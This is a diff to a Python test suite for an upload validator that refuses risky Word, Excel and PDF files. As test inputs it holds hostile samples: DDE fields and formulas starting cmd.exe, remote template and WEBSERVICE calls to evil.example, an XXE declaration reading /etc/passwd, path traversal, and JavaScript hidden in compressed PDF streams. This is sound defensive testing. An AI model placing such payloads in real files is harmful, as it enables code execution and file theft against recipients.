@@ -13,8 +13,8 @@ from hypothesis import strategies as st
 from PIL import Image
 
 from apps.core.errors import FileRejected
-from apps.uploads import file_checks, file_contents
-from apps.uploads.tests.papers import packed, pdf, picture
+from apps.uploads import file_checks, file_contents, file_kinds, office_files
+from apps.uploads.tests.papers import object_stream, packed, pdf, picture, relationships, word
 
 
 def why(content: bytes, name: str = "file") -> str:
@@ -54,12 +54,12 @@ def test_a_picture_is_made_anew_without_what_hung_on_it() -> None:
     ("content", "reason"),
     [
         (b"", "The file is empty"),
-        (b"MZ\x90\x00 program", file_contents._ONLY),
-        (b"<svg xmlns='http://www.w3.org/2000/svg'/>", file_contents._ONLY),
-        (b"<html><script>alert(1)</script>", file_contents._ONLY),
-        (picture("GIF"), file_contents._ONLY),
+        (b"MZ\x90\x00 program", file_kinds.ONLY),
+        (b"<svg xmlns='http://www.w3.org/2000/svg'/>", file_kinds.ONLY),
+        (b"<html><script>alert(1)</script>", file_kinds.ONLY),
+        (picture("GIF"), file_kinds.ONLY),
         (picture()[:40], "The picture is broken"),
-        (packed("content.xml"), file_contents._ONLY),
+        (packed("content.xml"), file_kinds.ONLY),
         (packed(more={"word/vbaProject.bin": b"x"}), "The document holds macros. Send it without them"),
         (
             packed(more={"word/embeddings/oleObject1.bin": b"x"}),
@@ -83,26 +83,231 @@ def test_wrong_type_and_active_content_are_rejected(content: bytes, reason: str)
 def test_a_document_whose_types_speak_of_macros_is_refused() -> None:
     buffer = io.BytesIO()
     with zipfile.ZipFile(buffer, "w") as archive:
-        archive.writestr("[Content_Types].xml", b"application/vnd.ms-word.document.macroEnabled.main+xml")
+        kind = "application/vnd.ms-word.document.macroEnabled.main+xml"
+        archive.writestr("[Content_Types].xml", f'<Types><Override ContentType="{kind}"/></Types>')
         archive.writestr("word/document.xml", b"<d/>")
     assert why(buffer.getvalue()) == "The document holds macros. Send it without them"
 
 
-def test_scripts_in_a_packed_part_of_a_pdf_are_found() -> None:
-    hidden = zlib.compress(b"2 0 << /S /JavaScript /JS (app.alert(1)) >>")
-    inside = b"2 0 obj << /Type /ObjStm /Length 9 >>\nstream\n" + hidden + b"\nendstream endobj\n"
-    assert why(pdf() + inside) == "The PDF holds scripts. Send it without them"
+_MACROS = "The document holds macros. Send it without them"
+_OTHERS = "The document holds other files. Send them one by one"
+_NOTHING = "The document fetches a part from elsewhere: “image”. Insert it instead of linking it"
+_DOCTYPE = "The document holds a document type declaration, which could name other files"
+
+
+@pytest.mark.parametrize(
+    ("parts", "reason"),
+    [
+        (
+            {
+                "word/_rels/settings.xml.rels": relationships(
+                    "attachedTemplate", "https://evil.example/a.dotm", "External"
+                )
+            },
+            "The document refers to a template. Send it without them",
+        ),
+        (
+            {
+                "word/_rels/document.xml.rels": relationships(
+                    "oleObject", "file://host/share/a.xls", "External"
+                )
+            },
+            "The document refers to other files. Send it without them",
+        ),
+        (
+            {"word/_rels/document.xml.rels": relationships("aFChunk", "page.html")},
+            "The document refers to another document. Send it without them",
+        ),
+        (
+            {"word/_rels/document.xml.rels": relationships("frame", "https://evil.example/", "External")},
+            "The document refers to another document. Send it without them",
+        ),
+        (
+            {
+                "word/_rels/settings.xml.rels": relationships(
+                    "mailMergeSource", "file:///c:/a.mdb", "External"
+                )
+            },
+            "The document refers to connections to data. Send it without them",
+        ),
+        (
+            {
+                "word/_rels/document.xml.rels": relationships(
+                    "image", "https://evil.example/x.png", "External"
+                )
+            },
+            _NOTHING,
+        ),
+        ({"word/_rels/document.xml.rels": relationships("image", r"\\host\share\x.png")}, _NOTHING),
+        (
+            {"word/_rels/document.xml.rels": relationships("somethingNew", "x.xml")},
+            "The document refers to something that is not accepted: “somethingNew”",
+        ),
+        ({"word/page.html": b"<p>"}, "The document holds a part that is not accepted: “word/page.html”"),
+        ({"word/../../x.xml": b"<p/>"}, "The document holds a part that is not accepted: “word/../../x.xml”"),
+        (
+            {"word/media/run.exe": b"MZ"},
+            "The document holds a part that is not accepted: “word/media/run.exe”",
+        ),
+        ({"WORD/DOCUMENT.XML": b"<d/>"}, "The document holds a part twice"),
+        ({"word/styles.xml": b'<!DOCTYPE a SYSTEM "file:///etc/passwd"><a/>'}, _DOCTYPE),
+        (
+            {"word/styles.xml": '<?xml version="1.0" encoding="utf-16"?><!DOCTYPE a><a/>'.encode("utf-16")},
+            _DOCTYPE,
+        ),
+        ({"word/styles.xml": b"<a><b></a>"}, "The document is damaged or has a password"),
+        (
+            {"word/document.xml": b'<v:imagedata xmlns:v="v" src="http://evil.example/x.png"/>'},
+            "The document fetches a picture from elsewhere. Insert it instead of linking it",
+        ),
+        ({"word/document.xml": word("<w:altChunk/>")}, _OTHERS),
+    ],
+)
+def test_rejects_word_document_that_fetches_or_holds_others(parts: dict[str, bytes], reason: str) -> None:
+    assert why(packed(more=parts)) == reason
+
+
+@pytest.mark.parametrize(
+    ("body", "name"),
+    [
+        ('<w:fldSimple w:instr="DDEAUTO c:\\windows\\cmd.exe"/>', "DDEAUTO"),
+        (
+            '<w:fldChar w:fldCharType="begin"/><w:instrText> DD</w:instrText><w:instrText>E x</w:instrText>',
+            "DDE",
+        ),
+        ('<w:fldChar w:fldCharType="begin"/><w:instrText>INCLUDETEXT x</w:instrText>', "INCLUDETEXT"),
+        ("<w:instrText>DDE x</w:instrText>", "DDE"),
+        (
+            '<w:fldChar w:fldCharType="begin"/><w:fldChar w:fldCharType="begin"/><w:instrText>QUOTE 68 68 69'
+            '</w:instrText><w:fldChar w:fldCharType="end"/><w:fldChar w:fldCharType="end"/>',
+            "QUOTE",
+        ),
+        (
+            '<w:fldChar w:fldCharType="begin"/><w:fldChar w:fldCharType="begin"/><w:instrText>REF a</w:instrText>'
+            '<w:fldChar w:fldCharType="end"/><w:instrText> x</w:instrText><w:fldChar w:fldCharType="end"/>',
+            "X",
+        ),
+    ],
+)
+def test_rejects_field_of_word_that_acts(body: str, name: str) -> None:
+    content = packed(more={"word/document.xml": word(body)})
+    assert why(content) == f"The document holds a field that is not accepted: “{name}”"
+
+
+@pytest.mark.parametrize(
+    ("parts", "reason"),
+    [
+        ({"xl/macrosheets/sheet1.xml": b"<m/>"}, _MACROS),
+        (
+            {"xl/externalLinks/externalLink1.xml": b"<e/>"},
+            "The document holds a part that is not accepted: “xl/externallinks/externallink1.xml”",
+        ),
+        (
+            {"xl/_rels/workbook.xml.rels": relationships("externalLink", "externalLinks/externalLink1.xml")},
+            "The document refers to other workbooks. Send it without them",
+        ),
+        (
+            {"xl/connections.xml": b"<c/>"},
+            "The document holds a part that is not accepted: “xl/connections.xml”",
+        ),
+        (
+            {"xl/worksheets/sheet1.xml": b"<worksheet><f>cmd|'/c calc'!A0</f></worksheet>"},
+            "The document holds a formula that starts a program (DDE). Send it without it",
+        ),
+        (
+            {
+                "xl/worksheets/sheet1.xml": b'<worksheet><f>_xlfn.WEBSERVICE("http://evil.example")</f></worksheet>'
+            },
+            "The document holds a formula that fetches something. Send it without it",
+        ),
+    ],
+)
+def test_rejects_workbook_that_fetches_or_acts(parts: dict[str, bytes], reason: str) -> None:
+    assert why(packed("xl/workbook.xml", more=parts)) == reason
+
+
+def test_accepts_links_pictures_fields_and_formulas() -> None:
+    field = (
+        '<w:fldChar w:fldCharType="begin"/><w:instrText> PAGE </w:instrText><w:fldChar w:fldCharType="separate"/>'
+        '<w:t>DDE 1</w:t><w:fldChar w:fldCharType="end"/><w:fldSimple w:instr=" HYPERLINK &quot;https://a.example&quot;"/>'
+    )
+    document = packed(
+        more={
+            "word/document.xml": word(field),
+            "word/_rels/document.xml.rels": relationships(
+                "hyperlink", "https://warung.example/menu", "External"
+            ),
+            "word/_rels/header1.xml.rels": relationships("image", "media/logo.png"),
+            "word/media/logo.png": picture(),
+        }
+    )
+    assert file_checks.check("menu.docx", document).content == document
+    cells = b"<worksheet><f>IF(A1=\"a|b\",'x|y'!B2,SUM(C1:C3))</f></worksheet>"
+    workbook = packed("xl/workbook.xml", more={"xl/worksheets/sheet1.xml": cells})
+    assert file_checks.check("menu.xlsx", workbook).content == workbook
+
+
+_SCRIPT = b"2 0 << /S /JavaScript /JS (app.alert(1)) >>"
+_SCRIPTS = "The PDF holds scripts. Send it without them"
+_PACKED = "The PDF packs objects in a way that cannot be looked into. Save it again, or print it to PDF"
+
+
+@pytest.mark.parametrize(
+    ("inside", "reason"),
+    [
+        (object_stream(_SCRIPT), _SCRIPTS),
+        (object_stream(_SCRIPT, b"/Filter [ /FlateDecode ]"), _SCRIPTS),
+        (object_stream(_SCRIPT, b"/Padding (" + b"x" * 5000 + b") /Filter /FlateDecode"), _SCRIPTS),
+        (
+            object_stream(
+                b"", b"/Filter [ /ASCIIHexDecode /FlateDecode ]", zlib.compress(_SCRIPT).hex().encode() + b">"
+            ),
+            _PACKED,
+        ),
+        (
+            object_stream(
+                b"", b"/Filter [ /FlateDecode /FlateDecode ]", zlib.compress(zlib.compress(_SCRIPT))
+            ),
+            _PACKED,
+        ),
+        (object_stream(b"", b"/Filter 7 0 R", zlib.compress(_SCRIPT)), _PACKED),
+        (object_stream(b"", b"", _SCRIPT.hex().encode()), _PACKED),
+        (object_stream(_SCRIPT, b"/Filter /FlateDecode /DecodeParms << /Predictor 12 >>"), _PACKED),
+        (object_stream(_SCRIPT, b"/F (elsewhere) /Filter /FlateDecode"), _PACKED),
+        (object_stream(b"", packed=zlib.compress(_SCRIPT)[:20]), _PACKED),
+        # What looks like the end of a stream, inside of it: packed without compression.
+        (object_stream(b"", packed=zlib.compress(b"x endstream " + _SCRIPT, 0)), _SCRIPTS),
+        # Objects that a text or the bytes of a picture seem to hold.
+        (b"3 0 obj (stream\n) endobj " + object_stream(_SCRIPT), _SCRIPTS),
+        (b"3 0 obj << /Subtype /Image >>\nstream\n" + object_stream(_SCRIPT), _PACKED),
+        (b"3 0 obj ( not closed " + object_stream(_SCRIPT), _PACKED),
+        (
+            b"3 0 obj << /S /GoToR /F (\\\\\\\\host\\\\share) >>",
+            "The PDF holds links into other files. Send it without them",
+        ),
+        (b"3 0 obj << /S /SubmitForm >>", "The PDF holds forms that send. Send it without them"),
+        (packed(), "The file is a PDF and an archive at the same time"),
+    ],
+)
+def test_rejects_pdf_that_acts_or_hides_what_it_does(inside: bytes, reason: str) -> None:
+    assert why(pdf() + inside) == reason
+
+
+def test_accepts_object_streams_without_actions_and_links_to_pages() -> None:
+    objects = b"2 0 << /Type /Page /Annots [ << /A << /S /URI /URI (https://warung.example) >> >> ] >>"
+    content = pdf() + object_stream(objects) + object_stream(objects)
+    assert file_checks.check("menu.pdf", content).content == content
 
 
 def test_the_bytes_of_a_picture_in_a_pdf_are_not_read_as_its_words() -> None:
-    image = b"2 0 obj << /Subtype /Image /Length 9 >>\nstream\n\x00/JS \x00/Launch \xff\nendstream endobj\n"
+    image = b"2 0 obj << /Subtype /Image /Length 9 >>\nstream\n\x00/JS \x00(\xff\nendstream endobj\n"
     assert file_checks.check("scan.pdf", pdf() + image).mime == "application/pdf"
 
 
 def test_a_document_that_unfolds_without_end_is_refused(monkeypatch: Any) -> None:
-    monkeypatch.setattr(file_contents, "MOST_UNPACKED", 10_000)
+    monkeypatch.setattr(office_files, "MOST_UNPACKED", 10_000)
     with pytest.raises(FileRejected, match="unfolds"):
-        file_contents.check("file", packed(more={"word/big.xml": b"0" * 50_000}))
+        file_contents.check("file", packed(more={"word/styles.xml": b"<a>" + b"0" * 50_000}))
 
 
 def test_more_than_ten_megabytes_are_refused() -> None:
